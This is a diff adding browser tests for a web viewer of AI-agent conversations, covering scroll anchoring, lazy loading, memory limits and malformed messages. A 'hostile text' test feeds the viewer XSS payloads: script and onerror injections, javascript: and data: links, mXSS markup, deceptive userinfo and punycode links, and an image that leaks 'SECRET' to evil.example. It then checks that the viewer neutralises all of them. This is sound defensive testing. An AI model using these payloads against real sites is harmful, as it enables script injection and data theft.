@@ -9,7 +9,8 @@ import { type OpenPage, pageOpener, type Scene } from "./testing/open-page.ts";
 import { answer, call, result, TALK, talk, tells, thought, turn, user } from "./testing/talk.ts";
 import { session } from "./testing/world.ts";
 
-setDefaultTimeout(60_000);
+/** They wait for one another: only a few pages are open at once. */
+setDefaultTimeout(240_000);
 
 let browser: Browser;
 let opener: (scene: Scene) => Promise<OpenPage>;
@@ -203,3 +204,361 @@ test.concurrent("before the first word the screen is there; with it the conversa
   await page.page.getByRole("tab", { name: "Conversation" }).tap();
   await said(page, "The total in the cart").waitFor();
 });
+
+// ── what is read never moves ────────────────────────────────────────────────────────────────────────────────────────
+
+/** Messages like a real conversation's, in numbers. */
+const many = (count: number) =>
+  talk(
+    Array.from({ length: count }, (_, i) => {
+      if (i % 5 === 0) return user(`Question ${i}`);
+      if (i % 5 === 1) return call(`c${i}`, "Bash", { command: `make part-${i}` });
+      if (i % 5 === 2) return result(`c${i - 1}`, `made part ${i}\n`.repeat(1 + (i % 30)));
+      if (i % 5 === 3)
+        return answer(`Answer ${i}: **bold** and \`code\`.\n\n${"More words. ".repeat(i % 40)}`);
+      return answer(`\`\`\`ts\nconst part${i} = ${i};\n\`\`\``);
+    }),
+  );
+
+/** Scrolls as far as `until` says, by screens. */
+const scrollTo = (page: OpenPage, to: "top" | "bottom", text: string) =>
+  scroller(page).evaluate(
+    async (box, { to, text }) => {
+      const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+      const from = performance.now();
+      const isThere = () =>
+        [...box.querySelectorAll(".said")].some((one) => one.textContent?.includes(`:${text}`));
+      let most = 0;
+      while (!isThere() && performance.now() - from < 180_000) {
+        box.scrollTop = to === "top" ? 0 : box.scrollHeight;
+        await frame();
+        most = Math.max(most, box.querySelectorAll(".said").length);
+      }
+      return { there: isThere(), most, ms: performance.now() - from };
+    },
+    { to, text },
+  );
+
+/** The first block whose beginning can be seen, and where that is. */
+const reading = (page: OpenPage) =>
+  scroller(page).evaluate((box) => {
+    const { top } = box.getBoundingClientRect();
+    const first = [...box.querySelectorAll<HTMLElement>(".said")].find(
+      (one) => one.getBoundingClientRect().top >= top,
+    );
+    return { key: first?.dataset.key ?? "", y: (first?.getBoundingClientRect().top ?? 0) - top };
+  });
+const place = (page: OpenPage, key: string) =>
+  scroller(page).evaluate((box, wanted) => {
+    const found = [...box.querySelectorAll<HTMLElement>(".said")].find((one) => one.dataset.key === wanted);
+    return found ? found.getBoundingClientRect().top - box.getBoundingClientRect().top : null;
+  }, key);
+/** To a pixel: a screen has none between two. */
+async function holds(page: OpenPage, before: { key: string; y: number }) {
+  const now = await place(page, before.key);
+  expect(now).not.toBeNull();
+  expect(Math.abs((now ?? 0) - before.y)).toBeLessThanOrEqual(1);
+}
+/** Turns a wheel over the conversation, and waits until all that follows from it is over. */
+async function wheel(page: OpenPage, y: number) {
+  await scroller(page).evaluate(async (box, by) => {
+    box.scrollBy(0, by);
+    for (let still = 0, last = -1; still < 20; still = box.scrollTop === last ? still + 1 : 0) {
+      last = box.scrollTop;
+      await new Promise((resolve) => requestAnimationFrame(resolve));
+    }
+  }, y);
+}
+
+test.concurrent("the end is followed only by who is there; a pill counts what came", async () => {
+  const all = many(600);
+  await using page = await open(all.slice(0, 500));
+  await said(page, "Answer 498").waitFor();
+  say(page, all.slice(500, 504));
+  await said(page, "Answer 503").waitFor();
+  expect(
+    await scroller(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight),
+  ).toBeLessThan(2);
+  await wheel(page, -700);
+  const before = await reading(page);
+  say(page, all.slice(504, 520));
+  const pill = page.page.locator('.conversation [data-part="pill"]');
+  await pill.filter({ hasText: "New output (13)" }).waitFor();
+  await holds(page, before);
+  await page.pictures("conversation-pill");
+  await pill.tap();
+  await said(page, "Answer 518").waitFor();
+  await pill.waitFor({ state: "hidden" });
+});
+
+test.concurrent("reading back loads what was before, and nothing jumps on the way", async () => {
+  await using page = await open(many(2_000));
+  await said(page, "Answer 1998").waitFor();
+  let jumps = 0;
+  for (let i = 0; i < 60; i++) {
+    const before = await reading(page);
+    await wheel(page, -300);
+    const now = await place(page, before.key);
+    if (now !== null && Math.abs(now - before.y - 300) > 1.5) jumps++;
+  }
+  expect(jumps).toBe(0);
+  for (let i = 0; i < 200 && !(await said(page, /^You said:Question 0\d/).isVisible()); i++)
+    await wheel(page, -20_000);
+  await said(page, /Question 0/).waitFor();
+  const keys = await scroller(page).evaluate((box) =>
+    [...box.querySelectorAll<HTMLElement>(".said")].map((one) => one.dataset.key),
+  );
+  expect(new Set(keys).size).toBe(keys.length);
+  expect(keys.length).toBeLessThanOrEqual(200);
+});
+
+test.concurrent("the keyboard, another width and another tab leave the reader where they were", async () => {
+  await using page = await open(many(400));
+  await said(page, "Answer 398").waitFor();
+  await wheel(page, -3_000);
+  const before = await reading(page);
+  await page.page.setViewportSize({ width: 390, height: 480 });
+  await wheel(page, 0);
+  await holds(page, before);
+  await page.page.setViewportSize({ width: 390, height: 844 });
+  await wheel(page, 0);
+  await holds(page, before);
+  await page.page.getByRole("tab", { name: "Log" }).tap();
+  say(page, many(405).slice(400));
+  await page.page.getByRole("tab", { name: "Conversation" }).tap();
+  await wheel(page, 0);
+  await holds(page, before);
+  await page.page.setViewportSize({ width: 844, height: 390 });
+  await wheel(page, 0);
+  const rotated = await place(page, before.key);
+  expect(rotated).not.toBeNull();
+  expect(Math.abs(rotated ?? 1e9)).toBeLessThan(390);
+});
+
+test.concurrent("/clear begins another conversation below the one before, and both can be read", async () => {
+  const next = "talk-2" as typeof TALK;
+  const later = talk([user("After the clearing"), answer("A fresh start")], next);
+  await using page = await open(CART);
+  await said(page, "And the tax?").waitFor();
+  page.server.send("session_start", { session: { ...shop, conversation: next } });
+  tells(page.server, shop.id, [...CART, ...later]);
+  say(page, later);
+  await said(page, "A fresh start").waitFor();
+  await said(page, "A new conversation").waitFor();
+  await page.page.reload();
+  await said(page, "A fresh start").waitFor();
+  await said(page, "And the tax?").waitFor();
+  const order = await page.texts(".said.begins, .said.user .user-text");
+  expect(order.slice(-3)).toEqual(["Thanks! And the tax?", "A new conversation", "After the clearing"]);
+  await page.pictures("conversation-cleared");
+});
+
+test.concurrent("a conversation that cannot be loaded says so, and comes when it can", async () => {
+  await using page = await opener({
+    path: `/s/${shop.id}`,
+    sessions: [shop],
+    failures: true,
+    before: ({ server }) =>
+      server.reply(`/api/sessions/${shop.id}/messages`, () => ({
+        status: 503,
+        body: { error: { code: "unreachable", message: "The disk sleeps.", request: "1" } },
+      })),
+  });
+  await page.page.getByText("The disk sleeps.").waitFor();
+  tells(page.server, shop.id, CART);
+  await said(page, "And the tax?").waitFor();
+});
+
+test("a conversation larger than the page may hold is read back to its beginning and on to its end", async () => {
+  const words = "Words that fill the memory. ".repeat(700);
+  const all = talk(
+    Array.from({ length: 3_000 }, (_, i) =>
+      i % 2 === 0 ? user(`Question ${i}`) : answer(`Answer ${i} ${words}`),
+    ),
+  );
+  await using page = await open(all.slice(0, 2_998));
+  await said(page, "Answer 2997").waitFor();
+  expect((await scrollTo(page, "top", "Question 0")).there).toBe(true);
+  const debug = await page.page.context().newCDPSession(page.page);
+  await debug.send("HeapProfiler.collectGarbage");
+  const { usedSize } = await debug.send("Runtime.getHeapUsage");
+  console.log(`30 million characters: heap ${(usedSize / 1e6).toFixed(1)} MB`);
+  expect(usedSize).toBeLessThan(HEAP_BYTES);
+  say(page, all.slice(2_998));
+  tells(page.server, shop.id, all);
+  expect((await scrollTo(page, "bottom", "Answer 2999")).there).toBe(true);
+  await scrollTo(page, "top", "Question 0");
+  await page.page.locator('.conversation [data-part="pill"]').tap();
+  await said(page, "Answer 2999").waitFor();
+}, 400_000);
+
+// ── hostile text ────────────────────────────────────────────────────────────────────────────────────────────────────
+
+const EVIL = [
+  "<script>window.evil = 1</script>",
+  '<img src=x onerror="window.evil = 2">',
+  "<svg onload=window.evil=3>",
+  '"><iframe srcdoc="<script>parent.evil=4</script>">',
+  "[click](javascript:window.evil=5) [click](JaVaScRiPt:window.evil=6) [click](\u0001javascript:alert(1))",
+  "[data](data:text/html,<script>window.evil=7</script>) [file](file:///etc/passwd) [vb](vbscript:x)",
+  "![x](https://evil.example/p.png?leak=SECRET) ![x](data:image/png;base64,AAAA)",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.evil=8>",
+  "```html\n</code></pre><script>window.evil = 9</script>\n```",
+  "| <script>window.evil=10</script> | <b onclick=window.evil=11>b</b> |\n|---|---|\n| ![](//evil.example/x) | [a](//evil.example) |",
+  "[bank.example](https://evil.example/bank.example) https://bank.example@evil.example/ <https://bank.example:443@evil.example>",
+  "[mail](mailto:a@evil.example?body=x) [ünï](https://xn--evil-5ya.example/) [ok](HTTPS://Good.example/%00)",
+].join("\n\n");
+
+test.concurrent("SEC-049 SEC-050 hostile text is text: no script, no request, and every link shows its host", async () => {
+  const input = { command: EVIL, description: EVIL, file_path: EVIL };
+  const messages = talk([
+    user(EVIL),
+    thought(EVIL),
+    call("c1", "Bash", input),
+    result("c1", EVIL, { failed: "error" }),
+    call("c2", `mcp__${EVIL}__<b>`, { [EVIL]: EVIL }),
+    call("c3", "Edit", { file_path: EVIL, old_string: "a", new_string: EVIL }),
+    result("c3", EVIL, { patch: [{ old_start: 1, new_start: 1, lines: [`-${EVIL}`, `+${EVIL}`] }] }),
+    call("c4", "TodoWrite", { todos: [{ content: EVIL, status: EVIL }] }),
+    call("c5", "ExitPlanMode", { plan: EVIL }),
+    {
+      role: "user",
+      parts: [
+        { type: "image", media_type: EVIL, bytes: 1 },
+        { type: "command", text: EVIL },
+        { type: "output", text: EVIL },
+      ],
+    },
+    {
+      role: "system",
+      parts: [
+        { type: "event", event: "error", text: EVIL },
+        { type: "event", event: "task", text: EVIL },
+      ],
+    },
+    answer(EVIL),
+  ]);
+  await using page = await open(messages);
+  const requests: string[] = [];
+  page.page.on("request", (request) => requests.push(request.url()));
+  await page.page.locator(".said.answer").last().waitFor();
+  await scroller(page).evaluate(async (box) => {
+    for (let y = box.scrollHeight; y >= 0; y -= box.clientHeight) {
+      box.scrollTop = y;
+      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+      for (const head of box.querySelectorAll<HTMLElement>("details:not([open]) > .line-head")) head.click();
+    }
+    box.scrollTop = box.scrollHeight;
+  });
+  const found = await page.page.evaluate(() => ({
+    evil: "evil" in window,
+    elements: document.querySelectorAll(
+      ".said :is(script, img, iframe, svg:not(.icon), form, style, math, object, embed)",
+    ).length,
+    handlers: [...document.querySelectorAll(".said *")].filter((one) =>
+      one.getAttributeNames().some((name) => name.startsWith("on")),
+    ).length,
+  }));
+  expect(found).toEqual({ evil: false, elements: 0, handlers: 0 });
+  expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
+  const links = await page.page
+    .locator(".said.answer")
+    .last()
+    .evaluate((said) =>
+      [...said.querySelectorAll("a")].map((link) => ({
+        href: link.href,
+        rel: link.rel,
+        host: link.parentElement?.querySelector(".link-host")?.textContent ?? "",
+      })),
+    );
+  expect(links.every(({ rel }) => rel === "noopener noreferrer")).toBe(true);
+  expect(links.map(({ href, host }) => [href, host])).toEqual([
+    ["https://evil.example/p.png?leak=SECRET", "(evil.example)"],
+    ["https://evil.example/bank.example", "(evil.example)"],
+    ["https://bank.example@evil.example/", "(evil.example)"],
+    ["https://bank.example:443@evil.example/", "(evil.example)"],
+    ["mailto:a@evil.example?body=x", "(a@evil.example)"],
+    ["https://xn--evil-5ya.example/", "(xn--evil-5ya.example)"],
+    ["https://good.example/%00", "(good.example)"],
+  ]);
+  expect(await page.phone.overflows()).toBe(false);
+  await page.pictures("conversation-hostile");
+});
+
+test.concurrent("a message that is not what it should be is shown as far as it makes sense", async () => {
+  const odd = [
+    null,
+    7,
+    "x",
+    [],
+    {},
+    { parts: 1 },
+    {
+      parts: [
+        null,
+        7,
+        {},
+        { type: "text" },
+        { type: "call", input: 3 },
+        { type: "result", patch: [{}, null], agent: 5 },
+        { type: "event", event: "x" },
+        { type: "later" },
+      ],
+    },
+  ];
+  const messages = odd.map(
+    (body, seq): Message => ({
+      conversation: TALK,
+      uuid: `o${seq}`,
+      seq,
+      role: "assistant",
+      body: body as never,
+    }),
+  );
+  await using page = await open([
+    ...messages,
+    ...talk([answer("still here")]).map((one) => ({ ...one, uuid: "last", seq: 99 })),
+  ]);
+  await said(page, "still here").waitFor();
+});
+
+// ── 50,000 blocks ───────────────────────────────────────────────────────────────────────────────────────────────────
+
+const HEAP_BYTES = 150_000_000;
+const BLOCKS = 50_000;
+
+test("50,000 blocks scroll, hold still, and fit into 150 MB", async () => {
+  const all = many((BLOCKS * 5) / 4);
+  await using page = await open(all);
+  await said(page, `Answer ${all.length - 2}`).waitFor();
+  const debug = await page.page.context().newCDPSession(page.page);
+  // Back to the beginning, page by page; the server's pages are 200 messages.
+  const loaded = await scrollTo(page, "top", "Question 0");
+  expect(loaded.there).toBe(true);
+  expect(loaded.most).toBeLessThanOrEqual(200);
+  await debug.send("HeapProfiler.collectGarbage");
+  const { usedSize } = await debug.send("Runtime.getHeapUsage");
+  const frames = await scroller(page).evaluate(async (box) => {
+    const times: number[] = [];
+    let most = 0;
+    for (let i = 0, last = performance.now(); i < 300; i++) {
+      box.scrollTop += i % 50 === 49 ? 200_000 : 120;
+      await new Promise((resolve) => requestAnimationFrame(resolve));
+      times.push(performance.now() - last);
+      last = performance.now();
+      most = Math.max(most, box.querySelectorAll(".said").length);
+    }
+    times.sort((a, b) => a - b);
+    return { median: times[150], p95: times[285], most };
+  });
+  expect(frames.most).toBeLessThanOrEqual(200);
+  const before = await reading(page);
+  say(page, many(all.length + 5).slice(all.length));
+  await page.page.locator('.conversation [data-part="pill"]').filter({ hasText: "New output" }).waitFor();
+  await holds(page, before);
+  const megabytes = (usedSize / 1e6).toFixed(1);
+  console.log(
+    `${BLOCKS} blocks: heap ${megabytes} MB, loaded in ${Math.round(loaded.ms / 1000)} s, frame median ${frames.median?.toFixed(1)} ms, 95 % ${frames.p95?.toFixed(1)} ms, at most ${frames.most} blocks drawn`,
+  );
+  expect(usedSize).toBeLessThan(HEAP_BYTES);
+}, 400_000);
